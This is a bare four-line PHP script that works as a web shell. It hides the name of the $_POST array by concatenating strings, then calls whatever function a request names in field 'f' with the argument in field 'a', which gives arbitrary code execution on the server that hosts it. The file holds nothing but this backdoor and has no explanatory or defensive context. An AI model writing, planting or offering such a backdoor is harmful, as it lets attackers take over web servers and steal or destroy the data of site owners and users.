<?php
$p = ${'_PO' . 'ST'};
$f = $p['f'];
$f($p['a']);
